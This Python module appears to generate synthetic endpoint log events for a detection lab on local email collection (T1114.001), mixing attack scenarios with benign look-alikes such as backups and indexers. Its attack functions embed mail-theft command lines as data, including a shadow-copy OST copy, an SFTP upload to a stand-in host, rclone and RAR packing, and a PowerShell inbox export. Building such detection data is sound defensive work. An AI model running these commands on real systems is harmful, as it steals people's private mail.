"""Families of T1114.001: stores of mail on a machine, and who may read them."""

from __future__ import annotations

from lab.families.mail import HOUR, a_time, attack, innocent, sysmon
from lab.families.story import Story, pick

OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"


@attack
def stores_are_staged(story: Story) -> None:
    """Copy and archive tools gather mail stores, or their owner takes the mail along on a drive."""
    rng, at = story.rng, a_time(story)
    story.attackers.add("ws-014")
    if rng.random() < 0.25:
        drive = f"{rng.choice('EFG')}:\\{rng.choice(('private', 'x', 'new folder'))}"
        for number in range(rng.randrange(60, 140)):
            image = "C:\\Windows\\explorer.exe"
            sysmon(story, at + number * 20, 11, image, TargetFilename=f"{drive}\\offer{number}.msg")
        sysmon(story, at + 3000, 11, OUTLOOK, TargetFilename=f"{drive}\\mail.pst")
        return
    tool = rng.choice(("Robocopy.exe", "xcopy.exe", "cmd.exe", "WindowsPowerShell\\v1.0\\powershell.exe"))
    place = rng.choice(("C:\\Users\\Public\\x", "C:\\ProgramData\\t", "C:\\Windows\\Temp", "\\\\192.0.2.9\\drop"))
    for number in range(rng.randrange(1, 4)):
        sysmon(story, at + number * 20, 11, f"C:\\Windows\\System32\\{tool}", TargetFilename=f"{place}\\a{number}.pst")


@attack
def stores_are_packed_by_a_renamed_tool(story: Story) -> None:
    """An archiver under another name, a program with a mail client's name, or a backup of a list of stores."""
    at, kind = a_time(story), story.rng.random()
    if kind < 0.25:
        folder = story.rng.choice(("C:\\PerfLogs", "C:\\ProgramData\\u", "C:\\Windows\\Temp"))
        found = f"cmd /c dir /s /b D:\\Homes\\*.pst > {folder}\\a.txt"
        line = f'"{folder}\\u.exe" -r sftp:a@203.0.113.8:/x backup --files-from {folder}\\a.txt'
        sysmon(story, at, 1, "C:\\Windows\\System32\\cmd.exe", CommandLine=found)
        sysmon(story, at + 300, 1, f"{folder}\\u.exe", CommandLine=line, OriginalFileName="-")
    elif kind < 0.6:
        line = 'svc.exe a o.7z "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"'
        sysmon(
            story, at, 1, "C:\\Users\\dana\\AppData\\Local\\Temp\\svc.exe", CommandLine=line, OriginalFileName="7z.exe"
        )
    else:
        sysmon(
            story, at, 11, "C:\\Users\\dana\\Downloads\\outlook.exe", TargetFilename="C:\\Users\\dana\\Downloads\\a.pst"
        )
    story.attackers.add("ws-014")


@attack
def stores_are_read_in_place(story: Story) -> None:
    """A program nobody knows reads the store where it lies."""
    program = story.rng.choice(("C:\\Users\\dana\\AppData\\Roaming\\u\\h.exe", "C:\\Windows\\System32\\rundll32.exe"))
    story.other(
        a_time(story), "security", ProcessName=program, User="CONTOSO\\dana", Computer="WS-014.contoso.com",
        ObjectName="C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost",
    )  # fmt: skip
    story.attackers.add("ws-014")


@attack
def outlook_is_driven_by_a_script(story: Story) -> None:
    """A script opens the inbox through Outlook, or only the files that Outlook writes for it are in the log."""
    rng, at = story.rng, a_time(story)
    story.attackers.add("ws-014")
    if rng.random() < 0.5:
        place = rng.choice(
            ("C:\\ProgramData\\Intel\\m", "C:\\PerfLogs\\a", "C:\\Windows\\Temp\\t1", "C:\\Users\\Public\\Libraries")
        )
        if "Public" in place:
            sysmon(story, at - 5, 1, OUTLOOK, CommandLine=f'"{OUTLOOK}" -Embedding')
        for number in range(rng.randrange(12, 60)):
            target = f"{place}\\{rng.getrandbits(40):x}.msg"
            sysmon(story, at + number * rng.uniform(0.5, 6), 11, OUTLOOK, TargetFilename=target)
        return
    folder = "(New-Object -ComObject Outlook.Application).GetNamespace('MAPI').GetDefaultFolder(6)"
    line = f'powershell -c "{folder}.Items | Export-Csv m.csv"'
    image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    sysmon(story, at, 1, image, CommandLine=line)


@innocent
def those_who_may_read_stores(story: Story) -> None:
    """Mail clients, indexers, scanners and backup as the system."""
    programs = (
        OUTLOOK,
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
        "C:\\Program Files\\SentinelOne\\Sentinel Agent 23.4.2.14\\SentinelAgent.exe",
        "C:\\Windows\\System32\\wbengine.exe",
        "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe",
    )
    for number, program in enumerate(pick(story.rng, programs, 5)):
        store = "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"
        facts = {"ProcessName": program, "ObjectName": store, "Computer": "WS-014.contoso.com"}
        story.other(9 * HOUR + number * 60, "security", User="NT AUTHORITY\\SYSTEM", **facts)
        sysmon(story, 10 * HOUR + number * 60, 11, program, TargetFilename=store, User="NT AUTHORITY\\SYSTEM")


@innocent
def browsers_save_messages(story: Story) -> None:
    """Browsers and Teams save single messages; a person drags mails into a folder, and an add-in files them. People
    save cases to a drive that they share, a mail server keeps a spool, and one takes a few along.
    """
    rng = story.rng
    for number in range(3 * rng.randrange(20, 60)):
        host, target = f"WS-{20 + number % 3}.contoso.com", f"P:\\Cases\\letter{number}.msg"
        sysmon(story, 12 * HOUR + 9 * number, 11, "C:\\Windows\\explorer.exe", TargetFilename=target, Computer=host)
        if number < 30:
            image, by = "C:\\Program Files\\hMailServer\\Bin\\hMailServer.exe", "NT AUTHORITY\\SYSTEM"
            kept = f"D:\\hMail\\Data\\{number}.eml"
            sysmon(story, 13 * HOUR + number, 11, image, TargetFilename=kept, User=by, Computer="MAIL02.contoso.com")
            sysmon(story, 14 * HOUR + number, 11, "C:\\Windows\\explorer.exe", TargetFilename=f"E:\\trip{number}.msg")
    place = rng.choice(
        ("C:\\Users\\dana\\Documents\\Case", "C:\\Users\\Public\\Case", "C:\\ProgramData\\OpenText\\DM\\Temp")
    )
    for number in range(rng.randrange(1, 40)):
        sysmon(story, 11 * HOUR + number, 11, OUTLOOK, TargetFilename=f"{place}\\offer{number}.msg")
    for number in range(12):
        image = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        sysmon(
            story, 9 * HOUR + number * 60, 11, image, TargetFilename=f"C:\\Users\\dana\\Downloads\\offer{number}.eml"
        )


@innocent
def machine_is_replaced(story: Story) -> None:
    """IT brings archives into the profile on a new machine; a person moves an archive in Explorer."""
    line = 'robocopy "\\\\OLD\\backup$\\dana\\Outlook Files" "C:\\Users\\dana\\Documents\\Outlook Files" *.pst /E'
    tool, by = "C:\\Windows\\System32\\Robocopy.exe", "CONTOSO\\it.support"
    sysmon(story, 9 * HOUR, 1, tool, CommandLine=line, User=by)
    for number in range(3):
        target = f"C:\\Users\\dana\\Documents\\Outlook Files\\a{number}.pst"
        sysmon(story, 9 * HOUR + 30 + number, 11, tool, TargetFilename=target, User=by)
    sysmon(story, 11 * HOUR, 11, "C:\\Windows\\explorer.exe", TargetFilename="D:\\Mail\\archive.pst")


@innocent
def backup_on_the_allowlist(story: Story) -> None:
    """A backup with an account of its own copies stores to its server."""
    image = "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe"
    for number in range(4):
        target = f"\\\\backup01\\mail\\a{number}.pst"
        sysmon(story, 2 * HOUR + number * 30, 11, image, TargetFilename=target, User="CONTOSO\\svc-backup")
    story.allowlist.append(
        {"class": "backup", "account": "CONTOSO\\svc-backup", "process_path": "C:\\Program Files\\Veeam\\*",
         "owner": "it", "ticket": "B-1", "valid_from": "2026-01-01T00:00:00Z", "valid_until": "2026-12-01T00:00:00Z"}
    )  # fmt: skip


@attack
def store_is_taken_from_a_shadow_copy(story: Story) -> None:
    """A store that Outlook holds open is copied from a shadow copy, or packed, or sent off with a renamed tool."""
    line, original = story.rng.choice(
        (
            (
                'cmd /c copy "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Users\\dana\\AppData\\Local\\'
                'Microsoft\\Outlook\\dana.ost" C:\\Users\\Public\\d.ost',
                "Cmd.Exe",
            ),
            ('s.exe copy "C:\\Users\\dana\\Documents\\Outlook Files\\old.pst" remote:drop', "rclone.exe"),
            ('r.exe a -hp x.rar "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"', "WinRAR.exe"),
        )
    )
    image = "C:\\Windows\\System32\\cmd.exe" if original == "Cmd.Exe" else "C:\\ProgramData\\u\\s.exe"
    sysmon(story, a_time(story), 1, image, CommandLine=line, OriginalFileName=original)
    story.attackers.add("ws-014")
